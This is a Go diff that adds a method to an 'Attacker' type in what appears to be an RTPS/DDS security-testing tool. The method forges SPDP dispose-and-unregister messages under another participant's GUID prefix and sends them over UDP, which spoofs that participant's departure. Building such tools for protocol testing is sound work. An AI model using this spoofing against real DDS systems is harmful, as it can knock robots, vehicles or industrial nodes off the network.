@@ -206,3 +206,16 @@ func (a *Attacker) Writer(ctx context.Context, topic string) (rtps.GUID, error) 
 		}
 	}
 }
+
+// Leave sends, from the attacker's address, the message by which the
+// participant prefix says it is leaving (an SPDP dispose and unregister
+// under prefix's header): a spoofed leave when prefix is someone else's.
+func (a *Attacker) Leave(prefix rtps.GuidPrefix) error {
+	var m rtps.Builder
+	m.Reset(nil, prefix)
+	gone := uint32(rtps.StatusDisposed | rtps.StatusUnregistered)
+	m.Data(&rtps.Data{Writer: rtps.EntitySPDPWriter, SN: 1 << 20,
+		InlineQoS: rtps.KeyHashList(rtps.GUID{Prefix: prefix, Entity: rtps.EntityParticipant}, gone)})
+	_, err := a.conn.WriteToUDPAddrPort(m.Bytes(), a.to)
+	return err
+}
